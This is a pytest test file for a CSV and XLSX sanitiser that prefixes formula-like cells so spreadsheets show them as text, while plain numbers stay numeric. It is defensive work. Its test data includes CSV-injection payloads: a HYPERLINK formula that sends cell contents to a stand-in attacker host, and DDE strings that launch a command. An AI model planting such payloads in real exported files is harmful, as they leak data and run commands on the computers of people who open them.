"""Formula-safe cells (OWASP CSV injection), with plain numbers left as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from catalog.kernel.csvsafe import SafeCsvWriter, safe_cell, xlsx_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_prefixed(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.5", "-1e-3", "-.5", "-7."])
def test_text_that_is_a_plain_number_stays_a_number(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [Decimal("-12.50"), -3, -0.25, None, "", "Sông Hồng", "a=b", " =1"]
)
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_negative_amounts():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["title", "amount"], ["=1+1", Decimal("-12.50")]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["title", "amount"],
        ["'=1+1", "-12.50"],
    ]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_formula_text_is_stored_as_text_exactly(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, ["=1+1", Decimal("-12.50"), "-3"]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(buffer).worksheets[0].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), (-12.5, "n"), ("-3", "s")]
